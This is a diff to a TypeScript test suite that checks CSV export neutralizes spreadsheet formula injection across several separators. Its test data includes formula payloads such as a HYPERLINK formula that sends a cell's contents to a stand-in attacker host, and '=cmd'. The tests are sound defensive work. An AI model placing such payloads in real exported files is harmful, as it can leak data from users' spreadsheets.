@@ -1,4 +1,5 @@
 import { expect } from '@open-wc/testing';
+import { dsvFormat } from 'd3-dsv';
 import { CsvTooLargeError, decodeCsv, detectDelimiter, formatCsv, matchHeaders, neutralizeCell, parseCsv, rowsToLeads } from '../../src/domain/csv.js';
 import { LocalAdapter, MemoryStore } from '../../src/adapters/local/index.js';
 
@@ -15,6 +16,45 @@ function cp1251(s: string): Uint8Array {
     throw new Error(`no cp1251 byte for ${ch}`);
   }));
 }
+
+/**
+ * Reads CSV as a spreadsheet does (Excel, LibreOffice): a cell that opens with a quote runs to its
+ * closing quote (`""` is a quote) and what follows, up to the separator, is added as it is; any
+ * other cell runs to the separator or line break. (d3-dsv instead takes the character after a
+ * closing quote as a separator, which no spreadsheet does.)
+ */
+function spreadsheetRead(text: string, separator: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let i = 0;
+  for (;;) {
+    let cell = '';
+    if (text[i] === '"') {
+      for (i++; i < text.length; i++) {
+        if (text[i] !== '"') cell += text[i];
+        else if (text[i + 1] === '"') cell += text[i++];
+        else {
+          i++;
+          break;
+        }
+      }
+    }
+    while (i < text.length && text[i] !== separator && text[i] !== '\r' && text[i] !== '\n') cell += text[i++];
+    row.push(cell);
+    if (i >= text.length) return [...rows, row];
+    if (text[i] === separator) {
+      i++;
+      continue;
+    }
+    i += text[i] === '\r' && text[i + 1] === '\n' ? 2 : 1;
+    rows.push(row);
+    row = [];
+    if (i >= text.length) return rows;
+  }
+}
+
+/** A cell a spreadsheet would run: a formula trigger first, after any spaces or quotes. */
+const runs = (cell: string) => /^[\s"]*[=+\-@]/.test(cell);
 
 describe('domain: CSV', () => {
   it('decodes UTF-8 with and without BOM, and a chosen legacy encoding', () => {
@@ -67,5 +107,42 @@ describe('domain: CSV', () => {
     const csv = formatCsv(['name', 'note'], [['Олена', '=HYPERLINK("http://evil")'], ['Nguyễn', 'a, b']]);
     expect(csv.startsWith('\ufeff')).to.equal(true);
     expect(csv).to.equal('\ufeffname,note\r\nОлена,"\'=HYPERLINK(""http://evil"")"\r\nNguyễn,"a, b"\r\n');
+  });
+
+  it("neutralizes a formula after a separator or line break inside a cell (Excel with ';' runs 'x;=HYPERLINK(…)')", () => {
+    const attack = 'x;=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const csv = formatCsv(['name'], [[attack], ['\n=cmd'], ['a\n@SUM(1)'], ['ok,\t+1'], ['1;"-2']]);
+    // Read as a ';' spreadsheet reads it: no cell may start with a formula trigger.
+    for (const delimiter of [',', ';', '\t']) {
+      for (const cell of spreadsheetRead(csv.slice(1), delimiter).flat()) expect(runs(cell), `${JSON.stringify(cell)} read with ${JSON.stringify(delimiter)}`).to.equal(false);
+    }
+    expect(csv).to.include(`"x;'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    // A leading LF becomes CRLF first, then is neutralized (it was left starting with CR).
+    expect(neutralizeCell('\n=cmd')).to.equal("'\r\n'=cmd");
+  });
+
+  it('writes any generated cell so that readers with ",", ";" or tab never meet a formula, and the writer\'s own separator reads it back', () => {
+    // Property test over generated cells: a seeded generator (reproducible), 3,000 rows of 4 cells
+    // from an alphabet of every trigger, separator, quote, line break, space and letters, read
+    // back as a spreadsheet reads it with each separator.
+    let seed = 0x2f6e2b1;
+    const random = () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32);
+    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', ' ', "'", 'a', 'Ж', 'ệ', '1', '(', ')'];
+    const cell = () => Array.from({ length: Math.floor(random() * 9) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
+    const rows = Array.from({ length: 3000 }, () => [cell(), cell(), cell(), cell()]);
+    for (const writer of [',', ';'] as const) {
+      const csv = formatCsv(['a', 'b', 'c', 'd'], rows, writer);
+      expect(csv.startsWith('\ufeff')).to.equal(true);
+      for (const reader of [',', ';', '\t']) {
+        const bad = spreadsheetRead(csv.slice(1), reader).flat().find(runs);
+        expect(bad, `written with ${JSON.stringify(writer)}, read with ${JSON.stringify(reader)}`).to.equal(undefined);
+      }
+      // Read with the writer's separator (by a spreadsheet and by d3-dsv alike): every row comes
+      // back whole, each cell its neutralized self.
+      const back = dsvFormat(writer).parseRows(csv.slice(1)).slice(1);
+      expect(spreadsheetRead(csv.slice(1), writer).slice(1)).to.deep.equal(back);
+      expect(back.length).to.equal(rows.length);
+      back.forEach((r, i) => expect(r).to.deep.equal(rows[i].map(neutralizeCell)));
+    }
   });
 });
